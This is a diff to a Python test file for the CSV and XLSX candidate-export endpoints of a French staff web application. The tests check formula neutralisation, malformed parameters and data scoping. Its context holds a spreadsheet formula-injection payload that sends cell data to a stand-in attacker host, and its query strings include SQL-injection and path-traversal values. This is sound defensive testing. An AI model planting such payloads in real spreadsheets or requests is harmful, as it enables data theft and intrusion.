@@ -32,6 +32,8 @@ from tests.factories_staff import STAFF_PASSWORD, make_staff
 from tests.fixtures.web import post_form
 from tests.integration.review.test_counts import _status
 
+EXPORT_CSV = "/staff/candidatures/export.csv"
+EXPORT_XLSX = "/staff/candidatures/export.xlsx"
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 INJECTION = '=HYPERLINK("http://attaquant.example/?x="&A1;"Cliquez")'
 
@@ -214,22 +216,23 @@ async def test_formulas_are_neutralised_in_both_formats(client):
 
 
 async def test_bad_parameters_never_fail(client):
-    await world()
-    campaign = await make_campaign(active=False)
-    await sign_in(client, StaffRole.CENTRE_MANAGER, centres=[await make_centre(campaign)])
+    campaign, *_ = await world()
+    other = await make_campaign(active=False)
+    await sign_in(client, StaffRole.CENTRE_MANAGER, centres=[await make_centre(other)])
     garbage = (
         "?statut=ZZ&centre=-1&formation=99999999999999&depuis=hier&tri=password&page=0"
-        "&q=%00%01&colonnes=../../etc&colonnes=&campagne=abc&reponse=%FF"
+        f"&q=%27%22%3B--&colonnes=../../etc&colonnes=&campagne={campaign.id}&reponse=%FF"
     )
-    for path in (
-        "/staff/candidatures/export",
-        "/staff/candidatures/export.csv",
-        "/staff/candidatures/export.xlsx",
-    ):
+    for path in ("/staff/candidatures/export", EXPORT_CSV, EXPORT_XLSX):
         response = await client.get(path + garbage)
         assert response.status_code == 200, path
+    # The defaults, and nothing of the active campaign: it is not this manager's.
+    assert read_csv((await client.get(EXPORT_CSV + garbage)).content)[1:] == []
+    # Control characters: ignored here, or refused by the security layer (400).
+    for path in ("/staff/candidatures/export", EXPORT_CSV, EXPORT_XLSX):
+        assert (await client.get(path + "?q=%00%01")).status_code in (200, 400), path
     # No column ticked on the form: the page says so.
-    response = await client.get("/staff/candidatures/export.xlsx?choix=1&statut=RE")
+    response = await client.get(EXPORT_XLSX + "?choix=1&statut=RE")
     assert response.status_code == 200
     assert "Cochez au moins une colonne à exporter." in response.text
     assert 'name="statut" value="RE"' in response.text
